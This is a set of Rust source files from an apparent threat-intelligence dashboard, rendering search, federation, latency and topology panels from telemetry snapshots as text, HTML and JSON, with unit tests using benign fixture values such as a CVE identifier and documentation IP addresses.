//! tracking the store incrementally or thrashing through rebuilds.

use std::collections::BTreeMap;

use cais_telemetry::{split_labels, Snapshot};
use serde::Serialize;

/// A structured view over the `search_*` series. Build with
/// [`SearchPanel::from_snapshot`], render with [`search_ascii`],
/// [`search_html`] or [`search_json`].
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct SearchPanel {
    /// Queries answered (`search_queries_total`).
    pub queries: u64,
    /// Events returned across all queries (`search_hits_total`).
    pub hits: u64,
    /// Rejected query strings (`search_parse_errors_total`).
    pub parse_errors: u64,
    /// Index sync passes driven (`search_index_syncs_total`).
    pub syncs: u64,
    /// Syncs that fell back to a full rebuild
    /// (`search_index_rebuilds_total`) — after the first fill, nonzero
    /// growth here means the changelog seam is broken.
    pub rebuilds: u64,
    /// Events currently indexed (`search_index_events`).
    pub indexed_events: i64,
    /// Distinct interned tokens (`search_index_tokens`).
    pub indexed_tokens: i64,
    /// Query latency p50, in nanoseconds (`search_query_nanos`).
    pub query_p50_nanos: u64,
    /// Query latency p95, in nanoseconds.
    pub query_p95_nanos: u64,
    /// Query latency p99, in nanoseconds.
    pub query_p99_nanos: u64,
    /// Any remaining `search_*` counters, verbatim.
    pub other: BTreeMap<String, u64>,
}

impl SearchPanel {
    /// Extracts the search series from a snapshot.
    pub fn from_snapshot(snapshot: &Snapshot) -> Self {
        let mut panel = SearchPanel::default();
        for (name, &value) in &snapshot.counters {
            let (base, _) = split_labels(name);
            match base {
                "search_queries_total" => panel.queries = value,
                "search_hits_total" => panel.hits = value,
                "search_parse_errors_total" => panel.parse_errors = value,
                "search_index_syncs_total" => panel.syncs = value,
                "search_index_rebuilds_total" => panel.rebuilds = value,
                _ if base.starts_with("search_") => {
                    panel.other.insert(name.clone(), value);
                }
                _ => {}
            }
        }
        for (name, &value) in &snapshot.gauges {
            let (base, _) = split_labels(name);
            match base {
                "search_index_events" => panel.indexed_events = value,
                "search_index_tokens" => panel.indexed_tokens = value,
                _ => {}
            }
        }
        for (name, histogram) in &snapshot.histograms {
            let (base, _) = split_labels(name);
            if base == "search_query_nanos" {
                panel.query_p50_nanos = histogram.quantile(0.50);
                panel.query_p95_nanos = histogram.quantile(0.95);
                panel.query_p99_nanos = histogram.quantile(0.99);
            }
        }
        panel
    }

    /// Whether the snapshot carried any search series at all.
    pub fn is_empty(&self) -> bool {
        self == &SearchPanel::default()
    }
}

fn nanos(value: u64) -> String {
    if value >= 1_000_000 {
        format!("{:.2}ms", value as f64 / 1e6)
    } else if value >= 1_000 {
        format!("{:.1}µs", value as f64 / 1e3)
    } else {
        format!("{value}ns")
    }
}

/// Renders the search panel as terminal text, in the dashboard's box
/// style.
pub fn search_ascii(panel: &SearchPanel) -> String {
    let mut out = String::new();
    out.push_str("== CAIS search ==\n\n");
    out.push_str(&format!(
        "  {} events indexed under {} tokens — {} syncs, {} rebuilds\n\n",
        panel.indexed_events, panel.indexed_tokens, panel.syncs, panel.rebuilds
    ));
    let mut row = |name: &str, value: String| {
        out.push_str(&format!("  {name:<34} {value:>10}\n"));
    };
    row("queries answered", panel.queries.to_string());
    row("events returned", panel.hits.to_string());
    row("parse errors", panel.parse_errors.to_string());
    row("query latency p50", nanos(panel.query_p50_nanos));
    row("query latency p95", nanos(panel.query_p95_nanos));
    row("query latency p99", nanos(panel.query_p99_nanos));
    for (name, value) in &panel.other {
        row(name, value.to_string());
    }
    out
}

/// Renders the search panel as a standalone HTML fragment.
pub fn search_html(panel: &SearchPanel) -> String {
    let mut out = String::new();
    out.push_str("<section class=\"cais-search\">\n<h2>Search</h2>\n");
    out.push_str(&format!(
        "<p>{} events indexed under {} tokens &mdash; {} syncs, {} rebuilds</p>\n",
        panel.indexed_events, panel.indexed_tokens, panel.syncs, panel.rebuilds
    ));
    out.push_str("<table class=\"search\">\n<tr><th>series</th><th>value</th></tr>\n");
    let mut row = |name: &str, value: String| {
        out.push_str(&format!(
            "<tr><td>{}</td><td>{}</td></tr>\n",
            escape(name),
            escape(&value)
        ));
    };
    row("queries answered", panel.queries.to_string());
    row("events returned", panel.hits.to_string());
    row("parse errors", panel.parse_errors.to_string());
    row("query latency p50", nanos(panel.query_p50_nanos));
    row("query latency p95", nanos(panel.query_p95_nanos));
    row("query latency p99", nanos(panel.query_p99_nanos));
    for (name, value) in &panel.other {
        row(name, value.to_string());
    }
    out.push_str("</table>\n</section>\n");
    out
}

/// Renders the search panel as pretty-printed JSON.
pub fn search_json(panel: &SearchPanel) -> String {
    serde_json::to_string_pretty(panel).unwrap_or_else(|_| "{}".to_owned())
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_telemetry::Registry;

    fn populated_registry() -> Registry {
        let registry = Registry::new();
        registry.counter("search_queries_total").add(1_000);
        registry.counter("search_hits_total").add(12_345);
        registry.counter("search_parse_errors_total").add(3);
        registry.counter("search_index_syncs_total").add(64);
        registry.counter("search_index_rebuilds_total").add(1);
        registry.gauge("search_index_events").set(200_000);
        registry.gauge("search_index_tokens").set(450_000);
        let latency = registry.histogram("search_query_nanos");
        for _ in 0..99 {
            latency.record(40_000);
        }
        latency.record(900_000);
        registry
    }

    #[test]
    fn panel_extracts_the_search_family() {
        let panel = SearchPanel::from_snapshot(&populated_registry().snapshot());
        assert_eq!(panel.queries, 1_000);
        assert_eq!(panel.hits, 12_345);
        assert_eq!(panel.parse_errors, 3);
        assert_eq!(panel.syncs, 64);
        assert_eq!(panel.rebuilds, 1);
        assert_eq!(panel.indexed_events, 200_000);
        assert_eq!(panel.indexed_tokens, 450_000);
        assert!(panel.query_p50_nanos >= 40_000);
        assert!(panel.query_p99_nanos >= panel.query_p50_nanos);
        assert!(panel.other.is_empty());
        assert!(!panel.is_empty());
    }

    #[test]
    fn renderers_cover_every_series() {
        let panel = SearchPanel::from_snapshot(&populated_registry().snapshot());
        let text = search_ascii(&panel);
        assert!(text.contains("CAIS search"));
        assert!(text.contains("200000 events indexed under 450000 tokens"));
        assert!(text.contains("queries answered"));
        assert!(text.contains("query latency p99"));

        let html = search_html(&panel);
        assert!(html.contains("<h2>Search</h2>"));
        assert!(html.contains("<td>queries answered</td><td>1000</td>"));

        let json: serde_json::Value = serde_json::from_str(&search_json(&panel)).unwrap();
        assert_eq!(json["queries"], 1_000);
        assert_eq!(json["indexed_events"], 200_000);
    }

    #[test]
    fn empty_snapshot_renders_without_panicking() {
        let panel = SearchPanel::from_snapshot(&Registry::new().snapshot());
        assert!(panel.is_empty());
        assert!(search_ascii(&panel).contains("0 events indexed"));
        assert!(search_html(&panel).contains("cais-search"));
    }

    #[test]
    fn foreign_series_are_ignored_and_unknown_search_series_kept() {
        let registry = Registry::new();
        registry.counter("misp_events_inserted_total").add(9);
        registry.counter("search_future_series_total").add(11);
        let panel = SearchPanel::from_snapshot(&registry.snapshot());
        assert_eq!(panel.queries, 0);
        assert_eq!(panel.other["search_future_series_total"], 11);
    }

    #[test]
    fn nanos_formatting_scales() {
        assert_eq!(nanos(500), "500ns");
        assert_eq!(nanos(42_000), "42.0µs");
        assert_eq!(nanos(2_500_000), "2.50ms");
    }
}
