//! The "federation" panel: cross-instance sharing health rendered next
//! to the threat dashboard.
//!
//! Reassembles the `federation_*` metric family emitted by
//! `cais-federation` (sync rounds, push traffic, receiver apply
//! outcomes, policy/hop withholdings, convergence progress) from a
//! [`cais_telemetry::Snapshot`] — the same data the scrape endpoint
//! serves — into the view an operator reads during an exchange: is the
//! federation moving, is anything leaking, has it converged.

use std::collections::BTreeMap;

use cais_telemetry::{split_labels, Snapshot};
use serde::Serialize;

/// A structured view over the `federation_*` series. Build with
/// [`FederationPanel::from_snapshot`], render with
/// [`federation_ascii`], [`federation_html`] or [`federation_json`].
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct FederationPanel {
    /// Peers currently federated (`federation_peers`).
    pub peers: i64,
    /// Sync rounds driven (`federation_rounds_total`).
    pub rounds: u64,
    /// Round at which the last run reached quiescence
    /// (`federation_converged_round`, 0 = not yet converged).
    pub converged_round: i64,
    /// Push frames attempted, including retries.
    pub push_frames: u64,
    /// Push frames that failed delivery.
    pub push_failures: u64,
    /// Delivery retries spent.
    pub retries: u64,
    /// Events sent inside acknowledged frames.
    pub events_sent: u64,
    /// Receiver tally: first-time inserts.
    pub events_inserted: u64,
    /// Receiver tally: merges (new attributes/tags/distribution).
    pub events_merged: u64,
    /// Receiver tally: idempotent confirmations of re-deliveries.
    pub events_unchanged: u64,
    /// Events a receiver's own tenant policy refused — leak attempts;
    /// nonzero means a sender is misbehaving.
    pub events_rejected: u64,
    /// Events withheld sender-side by tenant policy.
    pub withheld_policy: u64,
    /// Events withheld by the distribution hop gate.
    pub withheld_distribution: u64,
    /// Any remaining `federation_*` counters, verbatim.
    pub other: BTreeMap<String, u64>,
}

impl FederationPanel {
    /// Extracts the federation series from a snapshot.
    pub fn from_snapshot(snapshot: &Snapshot) -> Self {
        let mut panel = FederationPanel::default();
        for (name, &value) in &snapshot.counters {
            let (base, _) = split_labels(name);
            match base {
                "federation_rounds_total" => panel.rounds = value,
                "federation_push_frames_total" => panel.push_frames = value,
                "federation_push_failures_total" => panel.push_failures = value,
                "federation_retries_total" => panel.retries = value,
                "federation_events_sent_total" => panel.events_sent = value,
                "federation_events_inserted_total" => panel.events_inserted = value,
                "federation_events_merged_total" => panel.events_merged = value,
                "federation_events_unchanged_total" => panel.events_unchanged = value,
                "federation_events_rejected_total" => panel.events_rejected = value,
                "federation_withheld_policy_total" => panel.withheld_policy = value,
                "federation_withheld_distribution_total" => panel.withheld_distribution = value,
                _ if base.starts_with("federation_") => {
                    panel.other.insert(name.clone(), value);
                }
                _ => {}
            }
        }
        for (name, &value) in &snapshot.gauges {
            let (base, _) = split_labels(name);
            match base {
                "federation_peers" => panel.peers = value,
                "federation_converged_round" => panel.converged_round = value,
                _ => {}
            }
        }
        panel
    }

    /// Whether the snapshot carried any federation series at all.
    pub fn is_empty(&self) -> bool {
        self == &FederationPanel::default()
    }
}

/// Renders the federation panel as terminal text, in the dashboard's
/// box style.
pub fn federation_ascii(panel: &FederationPanel) -> String {
    let mut out = String::new();
    out.push_str("== CAIS federation ==\n\n");
    let converged = if panel.converged_round > 0 {
        format!("converged at round {}", panel.converged_round)
    } else {
        "not yet converged".to_owned()
    };
    out.push_str(&format!(
        "  {} peers, {} rounds driven — {}\n\n",
        panel.peers, panel.rounds, converged
    ));
    let mut row = |name: &str, value: u64| {
        out.push_str(&format!("  {name:<34} {value:>10}\n"));
    };
    row("push frames (incl. retries)", panel.push_frames);
    row("push failures", panel.push_failures);
    row("retries", panel.retries);
    row("events sent", panel.events_sent);
    row("events inserted", panel.events_inserted);
    row("events merged", panel.events_merged);
    row("events unchanged (idempotent)", panel.events_unchanged);
    row("events rejected (leak attempts)", panel.events_rejected);
    row("withheld by tenant policy", panel.withheld_policy);
    row("withheld by hop gate", panel.withheld_distribution);
    for (name, value) in &panel.other {
        row(name, *value);
    }
    out
}

/// Renders the federation panel as a standalone HTML fragment.
pub fn federation_html(panel: &FederationPanel) -> String {
    let mut out = String::new();
    out.push_str("<section class=\"cais-federation\">\n<h2>Federation</h2>\n");
    let converged = if panel.converged_round > 0 {
        format!("converged at round {}", panel.converged_round)
    } else {
        "not yet converged".to_owned()
    };
    out.push_str(&format!(
        "<p>{} peers, {} rounds driven &mdash; {}</p>\n",
        panel.peers,
        panel.rounds,
        escape(&converged)
    ));
    out.push_str("<table class=\"federation\">\n<tr><th>series</th><th>value</th></tr>\n");
    let mut row = |name: &str, value: u64| {
        out.push_str(&format!(
            "<tr><td>{}</td><td>{}</td></tr>\n",
            escape(name),
            value
        ));
    };
    row("push frames (incl. retries)", panel.push_frames);
    row("push failures", panel.push_failures);
    row("retries", panel.retries);
    row("events sent", panel.events_sent);
    row("events inserted", panel.events_inserted);
    row("events merged", panel.events_merged);
    row("events unchanged (idempotent)", panel.events_unchanged);
    row("events rejected (leak attempts)", panel.events_rejected);
    row("withheld by tenant policy", panel.withheld_policy);
    row("withheld by hop gate", panel.withheld_distribution);
    for (name, value) in &panel.other {
        row(name, *value);
    }
    out.push_str("</table>\n</section>\n");
    out
}

/// Renders the federation panel as pretty-printed JSON.
pub fn federation_json(panel: &FederationPanel) -> String {
    serde_json::to_string_pretty(panel).unwrap_or_else(|_| "{}".to_owned())
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_telemetry::Registry;

    fn populated_registry() -> Registry {
        let registry = Registry::new();
        registry.counter("federation_rounds_total").add(6);
        registry.counter("federation_push_frames_total").add(40);
        registry.counter("federation_push_failures_total").add(3);
        registry.counter("federation_retries_total").add(5);
        registry.counter("federation_events_sent_total").add(90);
        registry.counter("federation_events_inserted_total").add(60);
        registry.counter("federation_events_merged_total").add(4);
        registry
            .counter("federation_events_unchanged_total")
            .add(26);
        registry.counter("federation_events_rejected_total").add(1);
        registry.counter("federation_withheld_policy_total").add(7);
        registry
            .counter("federation_withheld_distribution_total")
            .add(2);
        registry.gauge("federation_peers").set(5);
        registry.gauge("federation_converged_round").set(6);
        registry
    }

    #[test]
    fn panel_extracts_the_federation_family() {
        let panel = FederationPanel::from_snapshot(&populated_registry().snapshot());
        assert_eq!(panel.peers, 5);
        assert_eq!(panel.rounds, 6);
        assert_eq!(panel.converged_round, 6);
        assert_eq!(panel.push_frames, 40);
        assert_eq!(panel.push_failures, 3);
        assert_eq!(panel.events_inserted, 60);
        assert_eq!(panel.events_unchanged, 26);
        assert_eq!(panel.events_rejected, 1);
        assert_eq!(panel.withheld_policy, 7);
        assert_eq!(panel.withheld_distribution, 2);
        assert!(panel.other.is_empty());
        assert!(!panel.is_empty());
    }

    #[test]
    fn renderers_cover_every_series() {
        let panel = FederationPanel::from_snapshot(&populated_registry().snapshot());
        let text = federation_ascii(&panel);
        assert!(text.contains("CAIS federation"));
        assert!(text.contains("converged at round 6"));
        assert!(text.contains("events rejected (leak attempts)"));
        assert!(text.contains("withheld by hop gate"));

        let html = federation_html(&panel);
        assert!(html.contains("<h2>Federation</h2>"));
        assert!(html.contains("<td>events inserted</td><td>60</td>"));

        let json: serde_json::Value = serde_json::from_str(&federation_json(&panel)).unwrap();
        assert_eq!(json["events_sent"], 90);
        assert_eq!(json["peers"], 5);
    }

    #[test]
    fn empty_snapshot_renders_without_panicking() {
        let panel = FederationPanel::from_snapshot(&Registry::new().snapshot());
        assert!(panel.is_empty());
        assert!(federation_ascii(&panel).contains("not yet converged"));
        assert!(federation_html(&panel).contains("cais-federation"));
    }

    #[test]
    fn foreign_series_are_ignored_and_unknown_federation_series_kept() {
        let registry = Registry::new();
        registry.counter("misp_events_inserted_total").add(9);
        registry.counter("federation_future_series_total").add(11);
        let panel = FederationPanel::from_snapshot(&registry.snapshot());
        assert_eq!(panel.events_inserted, 0);
        assert_eq!(panel.other["federation_future_series_total"], 11);
    }
}
