//! JSON rendering: the machine-readable dashboard document that a web
//! front-end would consume over the socket.

use serde_json::json;

use crate::issues::SecurityIssue;
use crate::node_view::NodeView;
use crate::state::DashboardState;

/// Renders the complete dashboard state as one JSON document: node
/// views, badges, topology and ranked issues.
pub fn json(state: &DashboardState) -> serde_json::Value {
    let nodes: Vec<serde_json::Value> = state
        .inventory()
        .nodes()
        .filter_map(|n| NodeView::build(state, n.id))
        .map(|view| serde_json::to_value(view).expect("node view serializes"))
        .collect();
    let links: Vec<serde_json::Value> = state
        .topology()
        .links()
        .iter()
        .map(|l| json!({ "a": l.a, "b": l.b, "kind": l.kind }))
        .collect();
    let mut riocs: Vec<_> = state.riocs().iter().collect();
    riocs.sort_by(|a, b| b.threat_score.total_cmp(&a.threat_score));
    let issues: Vec<serde_json::Value> = riocs
        .into_iter()
        .map(|r| {
            serde_json::to_value(SecurityIssue::from_rioc(r, state.inventory()))
                .expect("issue serializes")
        })
        .collect();
    json!({
        "nodes": nodes,
        "links": links,
        "issues": issues,
        "alarm_total": state.alarms().len(),
        "rioc_total": state.riocs().len(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Timestamp, Uuid};
    use cais_core::ReducedIoc;
    use cais_infra::inventory::Inventory;
    use cais_infra::{Alarm, AlarmSeverity, NodeId};

    #[test]
    fn document_shape() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(Alarm::new(
            1,
            NodeId(4),
            AlarmSeverity::High,
            "203.0.113.9",
            "192.168.1.14",
            "struts",
            "suricata",
            Timestamp::EPOCH,
        ));
        state.apply_rioc(ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts".into(),
            affected_application: None,
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        });
        let doc = json(&state);
        assert_eq!(doc["nodes"].as_array().unwrap().len(), 4);
        assert_eq!(doc["links"].as_array().unwrap().len(), 6);
        assert_eq!(doc["issues"][0]["cve"], "CVE-2017-9805");
        assert_eq!(doc["alarm_total"], 1);
        assert_eq!(doc["rioc_total"], 1);
        // Node 4's view carries the badge.
        let node4 = doc["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["id"] == 4)
            .unwrap();
        assert_eq!(node4["badge"]["red"], 1);
    }
}
