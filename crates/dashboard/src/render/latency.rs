//! The latency SLO panel: per-stage p50/p95/p99 wall times next to the
//! health panel's throughput view.
//!
//! The percentiles come from [`cais_telemetry::percentiles`] over the
//! same log₂ histograms the scrape endpoint exposes, so the dashboard,
//! the Prometheus text and the JSON exposition can never disagree
//! about what "p95 of the dedup stage" means.

use std::collections::BTreeMap;

use cais_telemetry::{label_value, percentiles, split_labels, Snapshot};
use serde::Serialize;

/// One stage's latency row, from its `pipeline_stage_nanos` histogram.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct StageLatency {
    /// Stage name (the `stage` label).
    pub stage: String,
    /// Rounds observed (histogram sample count).
    pub rounds: u64,
    /// Mean wall time per round, nanoseconds.
    pub mean_nanos: u64,
    /// Estimated median, nanoseconds.
    pub p50_nanos: u64,
    /// Estimated 95th percentile, nanoseconds.
    pub p95_nanos: u64,
    /// Estimated 99th percentile, nanoseconds.
    pub p99_nanos: u64,
}

/// One front-end's request-latency row, from its
/// `serve_request_nanos{server=…}` histogram (request arrival → reply
/// fully written on the multiplexed serving core).
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct ServingLatency {
    /// Front-end name (the `server` label): `taxii`, `telemetry`, `bus`.
    pub server: String,
    /// Requests answered (histogram sample count).
    pub requests: u64,
    /// Mean request→response wall time, nanoseconds.
    pub mean_nanos: u64,
    /// Estimated median, nanoseconds.
    pub p50_nanos: u64,
    /// Estimated 95th percentile, nanoseconds.
    pub p95_nanos: u64,
    /// Estimated 99th percentile, nanoseconds.
    pub p99_nanos: u64,
}

/// A structured latency view over a telemetry snapshot. Build with
/// [`LatencyPanel::from_snapshot`], render with [`latency_ascii`],
/// [`latency_html`] or [`latency_json`].
#[derive(Debug, Clone, Default, Serialize)]
pub struct LatencyPanel {
    /// Per-stage rows from the `pipeline_stage_nanos` series, in
    /// alphabetical stage order.
    pub stages: Vec<StageLatency>,
    /// Per-front-end rows from the `serve_request_nanos` series, in
    /// alphabetical server order.
    pub serving: Vec<ServingLatency>,
    /// Every other histogram's percentiles (full series name →
    /// `{p50, p95, p99}`), e.g. share or decay timings.
    pub series: BTreeMap<String, BTreeMap<String, u64>>,
}

impl LatencyPanel {
    /// Derives the panel from a snapshot's histograms.
    pub fn from_snapshot(snapshot: &Snapshot) -> Self {
        let quantiles = percentiles(snapshot);
        let mut panel = LatencyPanel::default();
        let mut stages: BTreeMap<String, StageLatency> = BTreeMap::new();
        let mut serving: BTreeMap<String, ServingLatency> = BTreeMap::new();
        for (name, histogram) in &snapshot.histograms {
            let (base, _) = split_labels(name);
            let ranks = &quantiles[name];
            let mean = histogram
                .sum
                .checked_div(histogram.count)
                .unwrap_or_default();
            if base == "pipeline_stage_nanos" {
                if let Some(stage) = label_value(name, "stage") {
                    stages.insert(
                        stage.to_owned(),
                        StageLatency {
                            stage: stage.to_owned(),
                            rounds: histogram.count,
                            mean_nanos: mean,
                            p50_nanos: ranks["p50"],
                            p95_nanos: ranks["p95"],
                            p99_nanos: ranks["p99"],
                        },
                    );
                    continue;
                }
            }
            if base == "serve_request_nanos" {
                if let Some(server) = label_value(name, "server") {
                    serving.insert(
                        server.to_owned(),
                        ServingLatency {
                            server: server.to_owned(),
                            requests: histogram.count,
                            mean_nanos: mean,
                            p50_nanos: ranks["p50"],
                            p95_nanos: ranks["p95"],
                            p99_nanos: ranks["p99"],
                        },
                    );
                    continue;
                }
            }
            panel.series.insert(name.clone(), ranks.clone());
        }
        panel.stages = stages.into_values().collect();
        panel.serving = serving.into_values().collect();
        panel
    }
}

/// Formats nanoseconds for a human column: ns, µs, ms or s.
fn human_nanos(nanos: u64) -> String {
    match nanos {
        n if n < 1_000 => format!("{n}ns"),
        n if n < 1_000_000 => format!("{:.1}µs", n as f64 / 1e3),
        n if n < 1_000_000_000 => format!("{:.1}ms", n as f64 / 1e6),
        n => format!("{:.2}s", n as f64 / 1e9),
    }
}

/// Renders the latency panel as terminal text.
pub fn latency_ascii(panel: &LatencyPanel) -> String {
    let mut out = String::new();
    out.push_str("== CAIS pipeline latency ==\n\n");
    out.push_str(&format!(
        "  {:<14} {:>7} {:>10} {:>10} {:>10} {:>10}\n",
        "stage", "rounds", "mean", "p50", "p95", "p99"
    ));
    for row in &panel.stages {
        out.push_str(&format!(
            "  {:<14} {:>7} {:>10} {:>10} {:>10} {:>10}\n",
            row.stage,
            row.rounds,
            human_nanos(row.mean_nanos),
            human_nanos(row.p50_nanos),
            human_nanos(row.p95_nanos),
            human_nanos(row.p99_nanos),
        ));
    }
    if !panel.serving.is_empty() {
        out.push_str("\nserving (request -> response):\n");
        out.push_str(&format!(
            "  {:<14} {:>9} {:>10} {:>10} {:>10} {:>10}\n",
            "server", "requests", "mean", "p50", "p95", "p99"
        ));
        for row in &panel.serving {
            out.push_str(&format!(
                "  {:<14} {:>9} {:>10} {:>10} {:>10} {:>10}\n",
                row.server,
                row.requests,
                human_nanos(row.mean_nanos),
                human_nanos(row.p50_nanos),
                human_nanos(row.p95_nanos),
                human_nanos(row.p99_nanos),
            ));
        }
    }
    if !panel.series.is_empty() {
        out.push_str("\nother series:\n");
        for (name, ranks) in &panel.series {
            out.push_str(&format!(
                "  {:<44} {:>10} {:>10} {:>10}\n",
                name,
                human_nanos(ranks["p50"]),
                human_nanos(ranks["p95"]),
                human_nanos(ranks["p99"]),
            ));
        }
    }
    out
}

/// Renders the latency panel as a standalone HTML fragment.
pub fn latency_html(panel: &LatencyPanel) -> String {
    let mut out = String::new();
    out.push_str("<section class=\"cais-latency\">\n<h2>Pipeline latency</h2>\n");
    out.push_str(
        "<table class=\"latency\">\n<tr><th>stage</th><th>rounds</th><th>mean</th>\
                  <th>p50</th><th>p95</th><th>p99</th></tr>\n",
    );
    for row in &panel.stages {
        out.push_str(&format!(
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>\n",
            escape(&row.stage),
            row.rounds,
            human_nanos(row.mean_nanos),
            human_nanos(row.p50_nanos),
            human_nanos(row.p95_nanos),
            human_nanos(row.p99_nanos),
        ));
    }
    out.push_str("</table>\n");
    if !panel.serving.is_empty() {
        out.push_str(
            "<h3>Serving latency</h3>\n<table class=\"serving\">\n\
             <tr><th>server</th><th>requests</th><th>mean</th>\
             <th>p50</th><th>p95</th><th>p99</th></tr>\n",
        );
        for row in &panel.serving {
            out.push_str(&format!(
                "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>\n",
                escape(&row.server),
                row.requests,
                human_nanos(row.mean_nanos),
                human_nanos(row.p50_nanos),
                human_nanos(row.p95_nanos),
                human_nanos(row.p99_nanos),
            ));
        }
        out.push_str("</table>\n");
    }
    if !panel.series.is_empty() {
        out.push_str("<h3>other series</h3>\n<ul>\n");
        for (name, ranks) in &panel.series {
            out.push_str(&format!(
                "<li><code>{}</code> p50={} p95={} p99={}</li>\n",
                escape(name),
                human_nanos(ranks["p50"]),
                human_nanos(ranks["p95"]),
                human_nanos(ranks["p99"]),
            ));
        }
        out.push_str("</ul>\n");
    }
    out.push_str("</section>\n");
    out
}

/// Renders the latency panel as pretty-printed JSON.
pub fn latency_json(panel: &LatencyPanel) -> String {
    serde_json::to_string_pretty(panel).unwrap_or_else(|_| "{}".to_owned())
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_telemetry::{labeled, Registry};

    fn populated_registry() -> Registry {
        let registry = Registry::new();
        for (stage, nanos) in [
            ("filter", 1_000u64),
            ("dedup", 2_000),
            ("compose", 400_000),
            ("enrich", 3_000_000),
            ("reduce", 9_000),
            ("publish", 2_500_000_000),
        ] {
            let histogram =
                registry.histogram(&labeled("pipeline_stage_nanos", &[("stage", stage)]));
            histogram.record(nanos);
            histogram.record(nanos * 2);
        }
        registry.histogram("share_serialize_nanos").record(5_000);
        for (server, nanos) in [("taxii", 40_000u64), ("telemetry", 15_000)] {
            let histogram =
                registry.histogram(&labeled("serve_request_nanos", &[("server", server)]));
            histogram.record(nanos);
            histogram.record(nanos * 3);
        }
        registry
    }

    #[test]
    fn panel_derives_percentiles_for_every_stage() {
        let panel = LatencyPanel::from_snapshot(&populated_registry().snapshot());
        assert_eq!(panel.stages.len(), 6, "all six pipeline stages present");
        for row in &panel.stages {
            assert_eq!(row.rounds, 2, "{}", row.stage);
            assert!(row.p50_nanos > 0, "{}", row.stage);
            assert!(row.p95_nanos >= row.p50_nanos, "{}", row.stage);
            assert!(row.p99_nanos >= row.p95_nanos, "{}", row.stage);
        }
        assert!(panel.series.contains_key("share_serialize_nanos"));
        assert!(!panel
            .series
            .keys()
            .any(|name| name.starts_with("pipeline_stage_nanos{")));

        let servers: Vec<&str> = panel.serving.iter().map(|r| r.server.as_str()).collect();
        assert_eq!(servers, ["taxii", "telemetry"], "alphabetical server order");
        for row in &panel.serving {
            assert_eq!(row.requests, 2, "{}", row.server);
            assert!(row.p95_nanos >= row.p50_nanos, "{}", row.server);
        }
        assert!(
            !panel
                .series
                .keys()
                .any(|name| name.starts_with("serve_request_nanos{")),
            "serving series must not double-report under other series"
        );
    }

    #[test]
    fn renderers_cover_stages_and_series() {
        let panel = LatencyPanel::from_snapshot(&populated_registry().snapshot());
        let text = latency_ascii(&panel);
        assert!(text.contains("CAIS pipeline latency"));
        assert!(text.contains("dedup"));
        assert!(text.contains("p99"));
        assert!(text.contains("share_serialize_nanos"));
        assert!(text.contains("serving (request -> response):"));
        assert!(text.contains("telemetry"));

        let html = latency_html(&panel);
        assert!(html.contains("<h2>Pipeline latency</h2>"));
        assert!(html.contains("<td>enrich</td>"));
        assert!(html.contains("share_serialize_nanos"));
        assert!(html.contains("<h3>Serving latency</h3>"));
        assert!(html.contains("<td>taxii</td>"));

        let json: serde_json::Value = serde_json::from_str(&latency_json(&panel)).unwrap();
        assert_eq!(json["stages"].as_array().unwrap().len(), 6);
        assert!(json["stages"][0]["p95_nanos"].as_u64().unwrap() > 0);
        assert!(json["series"]["share_serialize_nanos"]["p50"]
            .as_u64()
            .is_some());
        assert_eq!(json["serving"].as_array().unwrap().len(), 2);
        assert!(json["serving"][0]["p99_nanos"].as_u64().is_some());
    }

    #[test]
    fn human_units_scale_readably() {
        assert_eq!(human_nanos(999), "999ns");
        assert_eq!(human_nanos(1_500), "1.5µs");
        assert_eq!(human_nanos(2_500_000), "2.5ms");
        assert_eq!(human_nanos(2_500_000_000), "2.50s");
    }

    #[test]
    fn empty_snapshot_renders_without_panicking() {
        let panel = LatencyPanel::from_snapshot(&Registry::new().snapshot());
        assert!(panel.stages.is_empty());
        assert!(latency_ascii(&panel).contains("pipeline latency"));
        assert!(latency_html(&panel).contains("cais-latency"));
    }
}
