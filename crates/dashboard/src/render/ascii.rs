//! Terminal rendering of the dashboard: Fig. 2's topology with alarm
//! circles and rIoC stars, drawn in ASCII.

use crate::state::DashboardState;

/// Renders the full dashboard as terminal text.
///
/// Each node prints as a box with its alarm circle `( g/y/r )` and rIoC
/// star `★ n`, followed by the topology edges and the ranked issues.
pub fn ascii(state: &DashboardState) -> String {
    let mut out = String::new();
    out.push_str("== CAIS dashboard ==\n\n");
    let badges = state.badges();
    for node in state.inventory().nodes() {
        let badge = badges.get(&node.id).copied().unwrap_or_default();
        out.push_str(&format!(
            "+----------------------------+\n\
             | ({:>2}/{:>2}/{:>2}) {:>13} |\n\
             | {:<15} {:>8} |\n\
             |                      * {:>3} |\n\
             +----------------------------+\n",
            badge.green,
            badge.yellow,
            badge.red,
            badge.circle_color(),
            truncate(&node.name, 15),
            truncate(&node.operating_system, 8),
            badge.riocs,
        ));
    }
    out.push_str("\nlinks:\n");
    for link in state.topology().links() {
        out.push_str(&format!("  {} <-> {} ({:?})\n", link.a, link.b, link.kind));
    }
    out.push_str("\nissues (by threat score):\n");
    let mut riocs: Vec<_> = state.riocs().iter().collect();
    riocs.sort_by(|a, b| b.threat_score.total_cmp(&a.threat_score));
    for rioc in riocs {
        out.push_str(&format!(
            "  TS={:.4} [{}] {} -> {}\n",
            rioc.threat_score,
            rioc.priority_label(),
            rioc.cve.as_deref().unwrap_or("no-cve"),
            rioc.nodes
                .iter()
                .map(ToString::to_string)
